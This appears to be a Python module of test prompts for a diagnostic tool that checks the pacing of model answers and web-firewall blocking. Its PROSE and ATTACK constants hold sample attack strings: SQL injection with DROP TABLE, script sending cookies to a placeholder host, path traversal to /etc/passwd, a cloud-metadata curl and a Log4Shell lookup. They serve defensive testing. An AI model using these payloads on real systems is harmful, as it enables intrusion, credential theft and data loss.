"""The doctor's prompts. The directive in brackets controls the scripted model; other models follow the text."""

from __future__ import annotations

SHORT = "Answer with the single word: ready. [words=1 pause=0]"

PACED = "Count from one to thirty in words, one number a line. [words=26 pause=0.06]"
"""A prompt for an answer that is long enough to judge its delivery: at least 1.5 seconds."""

LONG = "Count from one to four hundred in words, one number a line. [words=400 pause=0.05]"
"""A prompt for an answer that is far from complete when the doctor disconnects: at least twenty seconds."""

PROSE = (
    "In one sentence, what is wrong with this? [words=1 pause=0]\n"
    "    SELECT * FROM users WHERE name = '' OR '1'='1' -- '; DROP TABLE users;\n"
    "    <script>document.location='http://192.0.2.1/?c='+document.cookie</script>\n"
    "    cat ../../../../etc/passwd; curl http://169.254.169.254/latest/meta-data/\n"
    "    ${jndi:ldap://192.0.2.1/a}   rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==\n"
)
"""A legitimate prompt about code, which a firewall for web forms would block as an attack."""

ATTACK = {"q": "<script>alert(document.cookie)</script>", "id": "1' OR '1'='1' UNION SELECT password FROM users --"}
"""An attack in the query string."""


def long_prose() -> str:
    """Return a prompt of about 12 KB; the common rule set's own size rule blocks above 8 KB."""
    return PROSE + "And explain each line as to a new colleague, calmly. " * 220


def silent(seconds: float) -> str:
    """Return a prompt whose answer pauses for some seconds after three words."""
    return f"Say four words, and think for a while after the third. [words=5 pause=0.01 silence={seconds:.2f}]"
